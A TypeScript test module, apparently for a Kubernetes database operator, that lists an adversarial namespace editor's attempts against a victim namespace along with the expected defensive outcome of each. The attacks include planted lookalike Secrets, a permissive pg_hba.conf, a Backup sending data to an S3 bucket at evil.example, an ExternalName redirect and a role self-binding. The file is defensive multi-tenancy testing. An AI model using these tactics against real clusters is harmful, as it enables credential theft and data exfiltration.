// Attempts of an editor of one namespace. The editor plants objects that imitate children of the victim's resources,
// changes its own children, and redirects the operator by connection Secrets.

import { expect } from 'vitest'
import { workerOrderIn } from '../../../src/controllers/migration/worker-order.ts'
import { secretText } from '../../taint/secret-text.ts'
import type { AdversaryStage } from '../adversary-stage.ts'
import { type Attempt, forbidden, harmless, invalid, type Outcome } from '../attempt.ts'
import { encoded, victimNamespace } from '../victim.ts'
import { connectionAttempts } from './connections.ts'

type Act = Attempt['act']

const attempt = (does: string, act: Act, outcome: Outcome): Attempt => ({ attacker: 'editor', does, act, outcome })

const isNoChild = 'The operator does not accept it as a child; the victim’s resources do not change.'
const apart = harmless(isNoChild)

/** The planted object stays: the operator does not prune it as a child of a resource in another namespace. */
const staysApart = (kind: string, name: string, reasons: readonly string[] = []) =>
  harmless(isNoChild, {
    reasons,
    check: async (stage) => {
      await stage.settle()
      expect(await stage.editor.peek(kind, name)).toBeDefined()
    },
  })
const partOfLabel = 'applyset.kubernetes.io/part-of'
const labels = (stage: AdversaryStage, kind: string, name: string, plural: string) => ({
  [partOfLabel]: stage.setIdOf(kind, name),
  'konverge.dev/managed-by': 'konverge',
  'konverge.dev/owned-by': `${plural}.data.konverge.dev`,
})
const managerOf = (plural: string) => `konverge/${plural}.data.konverge.dev`
const marks = (stage: AdversaryStage, kind: string, name: string) => ({
  'konverge.dev/part-of': stage.setIdOf(kind, name),
  'konverge.dev/apply-order': '3',
  'konverge.dev/prune': 'disabled',
})

interface Plant {
  readonly kind: string
  /** Default: the name of the victim's own child. */
  readonly name: string
  readonly of: readonly [kind: string, name: string, plural: string]
  readonly parts?: object
  /** As in Outcome, if the object is a resource of the operator. */
  readonly reasons?: readonly string[]
}

const pod = {
  metadata: { labels: { a: 'b' } },
  spec: { containers: [{ name: 'a', image: 'evil' }], restartPolicy: 'Never' },
}
const podOfSet = { ...pod, spec: { containers: pod.spec.containers } }

const password = encoded({
  username: 'app_a',
  password: 'chosen by the attacker',
  host: 'evil',
  port: '5432',
  type: 'postgresql',
  provider: 'konverge',
  database: 'orders',
  sslmode: 'disable',
})
const plants: readonly Plant[] = [
  { kind: 'secret', name: 'app-db', of: ['DatabaseUser', 'app', 'databaseusers'], parts: { data: password } },
  { kind: 'secret', name: 'vault-postgres-admin', of: ['Database', 'vault', 'databases'], parts: { data: password } },
  {
    kind: 'secret',
    name: 'vault-postgres-tls',
    of: ['Database', 'vault', 'databases'],
    parts: { data: encoded({ 'tls.crt': 'x', 'tls.key': secretText('a planted key') }) },
  },
  {
    kind: 'configmap',
    name: 'vault-postgres',
    of: ['Database', 'vault', 'databases'],
    parts: { data: { 'pg_hba.conf': 'host all all all trust' } },
  },
  {
    kind: 'service',
    name: 'vault-postgres',
    of: ['Database', 'vault', 'databases'],
    parts: { spec: { ports: [{ port: 5432 }] } },
  },
  {
    kind: 'statefulset',
    name: 'vault-postgres',
    of: ['Database', 'vault', 'databases'],
    parts: { spec: { serviceName: 'x', selector: { matchLabels: { a: 'b' } }, template: podOfSet } },
  },
  {
    kind: 'statefulset',
    name: 'cart',
    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
    parts: { spec: { serviceName: 'x', selector: { matchLabels: { a: 'b' } }, template: podOfSet } },
  },
  {
    kind: 'pvc',
    name: 'data-cart-0',
    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
    parts: { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } },
  },
  {
    kind: 'pdb',
    name: 'cart',
    of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'],
    parts: { spec: { maxUnavailable: 0, selector: { matchLabels: { a: 'b' } } } },
  },
  { kind: 'serviceaccount', name: 'cart', of: ['ReplicatedKVStore', 'cart', 'replicatedkvstores'] },
  {
    kind: 'configmap',
    name: 'orders-v1-planted',
    of: ['Migration', 'orders-v1', 'migrations'],
    parts: { data: { 'order.json': '{"format":1}' } },
  },
  {
    kind: 'job',
    name: 'orders-v1-planted',
    of: ['Migration', 'orders-v1', 'migrations'],
    parts: { spec: { template: pod } },
  },
  {
    kind: 'bak',
    name: 'nightly-planted',
    of: ['Backup', 'nightly', 'backups'],
    // The attacker's namespace has no Database of that name.
    reasons: ['DatabaseMissing'],
    parts: {
      spec: { databaseRef: { name: 'orders' }, target: { s3: { bucket: 'loot', endpoint: 'http://evil.example' } } },
    },
  },
]

const nameOfKind: Readonly<Record<string, string>> = {
  bak: 'Backup',
  configmap: 'ConfigMap',
  job: 'Job',
  pdb: 'PodDisruptionBudget',
  pvc: 'PersistentVolumeClaim',
  secret: 'Secret',
  service: 'Service',
  serviceaccount: 'ServiceAccount',
  statefulset: 'StatefulSet',
}

function planting({
  kind,
  name,
  of: [parent, parentName, plural],
  parts = {},
  reasons = [],
}: Plant): readonly Attempt[] {
  const what = `a ${nameOfKind[kind]} ${name}`
  return [
    attempt(
      `plants ${what} with the labels, annotations and field manager of a child of the victim’s ${parent}`,
      (stage) => {
        const metadata = {
          labels: labels(stage, parent, parentName, plural),
          annotations: marks(stage, parent, parentName),
        }
        return stage.editor.apply(kind, name, { metadata, ...parts }, { as: managerOf(plural) })
      },
      staysApart(kind, name, reasons),
    ),
    attempt(
      `plants ${what} whose owner is the victim’s ${parent}, by its uid`,
      async (stage) => {
        const ownerReferences = [await stage.ownerReference(parent.toLowerCase(), parentName)]
        const metadata = { ownerReferences, labels: labels(stage, parent, parentName, plural) }
        await stage.editor.apply(kind, name, { metadata, ...parts }, { as: managerOf(plural) })
      },
      { ...apart, reasons },
    ),
  ]
}

/** Planted before the victim creates the resource that would be the parent. */
const early: readonly Attempt[] = [
  attempt(
    'plants the Secret of a DatabaseUser that the victim creates later',
    async (stage, name) => {
      const metadata = {
        labels: labels(stage, 'DatabaseUser', name, 'databaseusers'),
        annotations: marks(stage, 'DatabaseUser', name),
      }
      await stage.editor.apply('secret', `${name}-db`, { metadata, data: password }, { as: managerOf('databaseusers') })
      await stage.forVictim('DatabaseUser', name, { databases: [{ name: 'shared', access: 'ReadOnly' }] }, async () => {
        await stage.until('it to be Ready', async () => (await stage.victimReady('dbu', name)) === true)
        const { data } = (await stage.victim.find('secret', `${name}-db`)) ?? {}
        if (data?.['password'] === password['password']) throw new Error('the password is the attacker’s')
      })
    },
    harmless('The operator generates a new password.'),
  ),
  attempt(
    'plants the administrator’s Secret of a server that the victim creates later',
    async (stage, name) => {
      const metadata = {
        labels: labels(stage, 'Database', name, 'databases'),
        annotations: marks(stage, 'Database', name),
      }
      await stage.editor.apply(
        'secret',
        `${name}-postgres-admin`,
        { metadata, data: password },
        { as: managerOf('databases') },
      )
      const spec = { version: '18', provider: { inCluster: {} }, deletionPolicy: 'Delete' }
      await stage.forVictim('Database', name, spec, async () => {
        const secret = async () => (await stage.victim.find('secret', `${name}-postgres-admin`))?.data
        await stage.until('its Secret', async () => (await secret()) !== undefined)
        if ((await secret())?.['password'] === password['password']) throw new Error('the password is the attacker’s')
      })
    },
    harmless('The operator generates a new password.'),
  ),
  attempt(
    'plants an object that resists deletion, as a child of a store that the victim deletes',
    async (stage, name) => {
      const metadata = {
        finalizers: ['attacker.example/hold'],
        labels: labels(stage, 'ReplicatedKVStore', name, 'replicatedkvstores'),
        annotations: marks(stage, 'ReplicatedKVStore', name),
      }
      const by = { as: managerOf('replicatedkvstores') }
      await stage.editor.apply('configmap', name, { metadata }, by)
      await stage.editor.apply('service', name, { metadata, spec: { ports: [{ port: 80 }] } }, by)
      await stage.forVictim('ReplicatedKVStore', name, { image: 'valkey/valkey:8.0', replicas: 1 }, async () => {
        await stage.until('it to be Ready', async () => (await stage.victimReady('kv', name)) === true)
      })
      for (const kind of ['configmap', 'service'])
        await stage.editor.patch(kind, name, { metadata: { finalizers: null } })
    },
    harmless('The operator deletes the store and does not wait for the planted object.'),
  ),
]

const children: readonly Attempt[] = [
  attempt(
    'sets the labels of a victim’s child on its own child',
    (stage) =>
      stage.editor.patch('secret', 'owner-db', {
        metadata: { labels: labels(stage, 'DatabaseUser', 'app', 'databaseusers') },
      }),
    harmless('The operator restores its labels; the victim’s resources have no new child.', {
      check: async (stage) => {
        const partOf = async () => (await stage.editor.peek('secret', 'owner-db'))?.metadata.labels?.[partOfLabel]
        const foreign = stage.setIdOf('DatabaseUser', 'app')
        await stage.until('the labels to be put back', async () => (await partOf()) !== foreign)
      },
    }),
  ),
  attempt(
    'moves its own child to the victim by its owner reference',
    async (stage) => {
      const ownerReferences = [await stage.ownerReference('databaseuser', 'app')]
      await stage.editor.patch('secret', 'writer-db', { metadata: { ownerReferences } })
    },
    harmless('The victim’s DatabaseUsers have no new child; the attacker’s DatabaseUser has its Secret again.', {
      check: async (stage) => {
        const isOwn = async () => {
          const { ownerReferences = [] } = (await stage.editor.peek('secret', 'writer-db'))?.metadata ?? {}
          return ownerReferences.some(({ name }) => name === 'writer') && (await stage.isReady('dbu', 'writer'))
        }
        await stage.until('the Secret to be his user’s again', isOwn)
      },
    }),
  ),
  attempt(
    'offers an object to the victim by konverge.dev/adopt',
    (stage) => {
      const annotations = { 'konverge.dev/adopt': `DatabaseUser/${victimNamespace}/app` }
      return stage.editor.create('secret', 'app-db', { metadata: { annotations }, data: password })
    },
    staysApart('secret', 'app-db'),
  ),
  attempt(
    'changes the password in the Secret of its own DatabaseUser',
    (stage) =>
      stage.editor.patch('secret', 'owner-db', {
        data: { password: Buffer.from('own-choice-of-his').toString('base64') },
      }),
    harmless('At most the attacker’s own login changes; its Secret is valid again.', {
      check: async (stage) => {
        const logsIn = async () => {
          const { user, password: text } = await stage.login('owner')
          const answer = stage.postgres.byHand('SELECT 1', { user, password: text, database: 'shared' })
          return await answer.then(
            () => true,
            () => false,
          )
        }
        await stage.until('the Secret to open the login', logsIn)
      },
    }),
  ),
  attempt(
    'creates the Service of the victim’s server in its own namespace',
    ({ editor }) =>
      editor.create('service', 'vault-postgres', { spec: { type: 'ExternalName', externalName: 'evil.example' } }),
    staysApart('service', 'vault-postgres'),
  ),
  attempt(
    'binds a role to itself',
    ({ editor }, name) =>
      editor.create('rolebinding', name, {
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'konverge-system:konverge' },
        subjects: [],
      }),
    forbidden,
  ),
  attempt(
    'reads the Secrets of the victim',
    ({ editor }) => editor.list('secret', { namespace: victimNamespace }),
    forbidden,
  ),
  attempt(
    'reads the Secrets of the operator’s namespace',
    ({ editor }) => editor.list('secret', { namespace: 'konverge-system' }),
    forbidden,
  ),
  attempt(
    'labels a namespace to match a selector of the victim',
    ({ editor }) => editor.patch('namespace', 'attacker', { metadata: { labels: { trusted: 'yes' } } }),
    forbidden,
  ),
  attempt(
    'writes the status of its own Database',
    ({ editor }) => editor.patch('db', 'mine', { status: { phase: 'Ready' } }, { subresource: 'status' }),
    forbidden,
  ),
]

const orders: readonly Attempt[] = [
  attempt(
    'changes the job spec of a Migration to point to the victim’s database',
    async (stage, name) => {
      const order = await stage.orderOf(name, [{ name: 'only', sql: 'SELECT 1' }])
      if (order.outcome === 'Rejected') throw new Error(order.message)
      const text = order.text.replaceAll('"mine"', '"orders"').replaceAll('mine_owner', 'orders_owner')
      expect(text).not.toBe(order.text)
      await stage.editor.patch('configmap', order.name, { data: { 'order.json': text } })
      stage.report = workerOrderIn(text, order.digest) ?? 'refused'
    },
    {
      sentence: 'The job spec is immutable, and the worker accepts only the job spec whose digest its Job names.',
      check: async (stage, name) => {
        await invalid('data').check(stage, name)
        if (stage.report !== 'refused') throw new Error(`the worker took the order: ${JSON.stringify(stage.report)}`)
      },
    },
  ),
]

export const editorAttempts: readonly Attempt[] = [
  ...plants.flatMap(planting),
  ...early,
  ...children,
  ...connectionAttempts,
  ...orders,
]
